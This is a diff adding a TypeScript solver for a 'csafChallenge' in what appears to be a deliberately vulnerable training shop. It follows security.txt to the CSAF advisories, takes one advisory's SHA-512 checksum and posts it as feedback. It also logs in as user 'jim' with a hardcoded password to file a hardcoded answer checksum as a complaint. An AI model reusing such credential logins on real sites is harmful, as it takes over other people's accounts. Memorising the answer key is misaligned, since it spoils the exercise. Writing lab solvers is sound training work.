@@ -1,0 +1,57 @@
+import type { Attack, Tools } from '#lab'
+
+interface Captcha {
+  captchaId: number
+  answer: string
+}
+
+/** Tells the shop something by way of its feedback form. */
+async function tell({ http, expect }: Tools, words: string): Promise<void> {
+  const { captchaId, answer } = (await http.get('/rest/captcha/')).json<Captcha & Record<string, unknown>>()
+  const comment = `${words} (anonymous)`
+  const sent = await http.post('/api/Feedbacks/', { captchaId, captcha: answer, comment, rating: 3 })
+  expect(sent.status === 201, `the feedback was answered with ${sent.status}`)
+}
+
+/** Tells the shop something by way of a complaint: Jim's. */
+async function complain({ http, expect, settings }: Tools, message: string): Promise<void> {
+  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
+  expect(login.status === 200, `the login answered with ${login.status}`)
+  const { token } = login.json<{ authentication: { token: string } }>().authentication
+  const sent = await http.post('/api/Complaints/', { message }, { token })
+  expect(sent.status === 201, `the complaint was answered with ${sent.status}`)
+}
+
+/** Follows the trail from the contact to the advisory that promises a patch. */
+async function ownChecksum({ http, expect }: Tools): Promise<string> {
+  const contact = await http.get('/.well-known/security.txt')
+  expect(contact.text.includes('/.well-known/csaf/provider-metadata.json'), 'no advisories are mentioned')
+  const index = await http.get('/.well-known/csaf/index.txt')
+  for (const path of index.text.trim().split('\n')) {
+    const advisory = await http.get(`/.well-known/csaf/${path}`)
+    if (!advisory.text.includes('We will soon release a patch')) continue
+    const { text } = await http.get(`/.well-known/csaf/${path}.sha512`)
+    return text.split(' ')[0] ?? ''
+  }
+  expect(false, 'no advisory promises a patch')
+  return ''
+}
+
+/** The one that walkthroughs know. */
+const KNOWN =
+  '7e7ce7c65db3bf0625fcea4573d25cff41f2f7e3474f2c74334b14fc65bb4fd26af802ad17a3a03bf0eee6827a00fb8f7905f338c31b5e6ea9cb31620242e843'
+
+const CHALLENGE = 'csafChallenge'
+
+export const attacks: Attack[] = [
+  {
+    challenge: CHALLENGE,
+    name: 'a feedback with the checksum of our advisory',
+    run: async (tools) => tell(tools, await ownChecksum(tools)),
+  },
+  {
+    challenge: CHALLENGE,
+    name: 'a complaint with the checksum that walkthroughs know',
+    run: (tools) => complain(tools, KNOWN),
+  },
+]
